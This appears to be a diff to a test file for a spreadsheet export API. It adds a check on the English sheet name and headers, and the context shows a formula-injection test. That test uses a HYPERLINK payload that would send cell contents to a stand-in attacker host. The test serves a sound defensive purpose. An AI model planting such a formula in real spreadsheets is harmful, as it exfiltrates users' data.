@@ -60,6 +60,15 @@ test('the file holds what the filter finds, with real dates of the organization�
   expect(whole.rowCount).toBe(2_301);
 });
 
+test('the English file opens too: spreadsheets keep the name «History» for themselves', async () => {
+  const response = await fetch(`${t.url}/api/history.xlsx`, {
+    headers: { 'x-session-token': owner.token, 'accept-language': 'en-US' },
+  });
+  const sheet = await sheetOf(response);
+  expect(sheet.name).toBe('Change history');
+  expect(sheet.getCell('A1').value).toBe('Date and time');
+});
+
 test('a text that looks like a formula stays a text', async () => {
   const attack = '=HYPERLINK("http://evil.example/?"&A1,"смотри")';
   await write(1, attack);
